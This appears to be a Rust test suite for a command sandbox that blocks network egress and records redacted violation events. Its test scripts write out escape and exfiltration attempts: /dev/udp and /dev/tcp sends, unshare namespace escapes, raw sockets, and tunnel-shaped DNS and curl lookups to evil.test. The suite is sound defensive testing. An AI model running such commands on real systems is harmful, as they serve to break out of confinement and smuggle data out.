//! What is told of what a command tries around the gate.

use confine::{Network, Rung};
use serde_json::json;
use sha2::Digest as _;

use crate::bed::{Bed, DECLARED, say};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_goes_around_the_gate_is_one_event_that_is_always_the_same() {
    let bed = Bed::new(None).await;
    let script = "echo x > /dev/udp/203.0.113.5/9; echo x > /dev/udp/8.8.8.8/4433; unshare -Un true; exit 0";
    let mut first = None;
    for round in 0..4 {
        let ran = bed.run(Rung::A, DECLARED, script).await;
        let ended = ran.ended();
        assert_eq!(ended.exit.code(), 0, "the command lives with it");
        let evidence = ended.evidence.as_ref().unwrap();
        let attempts = ran.attempts();
        assert!(attempts.contains(&"send inet udp reserved 9".to_owned()), "{attempts:?}");
        assert!(attempts.contains(&"send inet udp public 4433".to_owned()), "{attempts:?}");
        assert!(attempts.iter().any(|attempt| attempt.starts_with("unshare ")), "{attempts:?}");
        let violations = bed.violations().await;
        assert_eq!(violations.len(), round + 1, "one event for each call");
        let data = violations.last().unwrap();
        assert_eq!(data["violation_code"], json!("network_egress_blocked"));
        assert_eq!(data["summary"]["digest"], json!(evidence.digest));
        assert_eq!(data["summary"]["rung"], json!("A"));
        let text = data.to_string();
        assert_eq!(first.get_or_insert(text.clone()), &text, "byte for byte");
        for part in ["8.8.8.8", "203.0.113.5", "/dev/udp", "bash"] {
            assert!(!text.contains(part), "{part} in {text}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_at_once_in_other_folders_and_languages_is_the_same() {
    let (bed, elsewhere) = (Bed::new(None).await, Bed::new(None).await);
    let script = "echo x > /dev/udp/203.0.113.5/9; unshare -Un true; exit 0";
    let folders = ["/", "/usr", "/etc", "/tmp", "/usr/bin", "/usr/lib", "/dev", "/proc"];
    for (rung, network) in [(Rung::A, DECLARED), (Rung::A, Network::None), (Rung::B, DECLARED)] {
        let before = bed.violations().await.len();
        let calls = folders.iter().enumerate().map(|(n, folder)| {
            let (mut call, _out) = bed.call(rung, network, script);
            call.command.cwd = (*folder).into();
            let language = if n % 2 == 0 { "C" } else { "de_DE.UTF-8" };
            call.command.env.push((b"LANG".to_vec(), language.into()));
            bed.confiner.run(call, tokio_util::sync::CancellationToken::new())
        });
        for ended in futures::future::join_all(calls).await {
            assert!(ended.unwrap().evidence.is_some());
        }
        let all: Vec<String> = bed.violations().await[before..].iter().map(ToString::to_string).collect();
        assert_eq!(all.len(), folders.len(), "one for each");
        assert!(all.iter().all(|one| *one == all[0]), "{rung} {all:#?}");
    }
    // What it was called with is known by a digest that only this install can make.
    let ran = elsewhere.run(Rung::A, DECLARED, script).await;
    assert!(ran.ended().evidence.is_some());
    let input = |violation: &serde_json::Value| violation["summary"]["input_hmac"].as_str().unwrap().to_owned();
    let (here, there) = (input(&bed.violations().await[0]), input(&elsewhere.violations().await[0]));
    assert_ne!(here, there);
    let argv = json!({ "argv": ["/bin/bash", "-c", script] });
    let plain = sha2::Sha256::digest(model::Canonical::from(&argv).as_str());
    assert_ne!(format!("sha256:{here}"), model::event::render_hash(&plain.into()));
    assert_eq!(here, bed.gate.input_hmac(&argv));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_rung_tells_what_it_refuses() {
    let bed = Bed::new(None).await;
    for (rung, script, want) in [
        (Rung::A, "unshare -Un true", "unshare"),
        (Rung::B, "unshare -Un true", "unshare"),
        (Rung::A, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'", "socket"),
        (Rung::B, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'", "socket"),
        (Rung::A, "echo x > /dev/udp/8.8.8.8/53", "send"),
        (Rung::A, "exec 3<>/dev/tcp/8.8.8.8/53; printf '\\0\\14abcdefghijkl' >&3; sleep 0.2", "send"),
    ] {
        let ran = bed.run(rung, DECLARED, script).await;
        let attempts = ran.attempts();
        assert!(attempts.iter().any(|attempt| attempt.starts_with(want)), "{rung} {script}: {attempts:?} {}", ran.out);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_feels_its_way_is_counted_and_taints_nothing() {
    let bed = Bed::new(None).await;
    let script = "python3 -c 'import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0)' 2>/dev/null; true";
    for rung in [Rung::A, Rung::B] {
        let ran = bed.run(rung, Network::None, script).await;
        let ended = ran.ended();
        let noticed: Vec<String> = ended.noticed.iter().map(say).collect();
        assert!(ended.evidence.is_none() && ended.notices > 0, "{rung}: {noticed:?}");
        assert!(noticed.iter().any(|attempt| attempt.contains(" alg ")), "{rung}: {noticed:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_in_names_goes_nowhere_and_is_told() {
    let bed = Bed::new(None).await;
    let label = "c4na2y".repeat(9);
    for (rung, script, attempt) in [
        (Rung::A, format!("getent hosts {label}.evil.test"), "resolve_tunnel_shaped none dns name 53"),
        (Rung::B, format!("getent hosts {label}.evil.test"), "resolve_tunnel_shaped none dns name 53"),
        (Rung::A, format!("curl -sS http://{label}.evil.test/"), "ask_tunnel_shaped none http name 80"),
        (Rung::B, format!("curl -sS http://{label}.evil.test/"), "ask_tunnel_shaped none http name 80"),
        (Rung::A, format!("curl -sS https://{label}.evil.test/"), "ask_tunnel_shaped none tcp name 443"),
    ] {
        let ran = bed.run(rung, DECLARED, &script).await;
        assert_eq!(ran.attempts(), [attempt], "{rung} {script} {}", ran.out);
    }
    for violation in bed.violations().await {
        assert!(!violation.to_string().contains("c4na2y"));
    }
    let store = std::fs::read_dir(bed.store.dir()).unwrap().map(|entry| entry.unwrap().path());
    for file in store.filter(|path| path.is_file()) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(!bytes.windows(12).any(|window| window == b"c4na2yc4na2y"), "{}", file.display());
    }
}
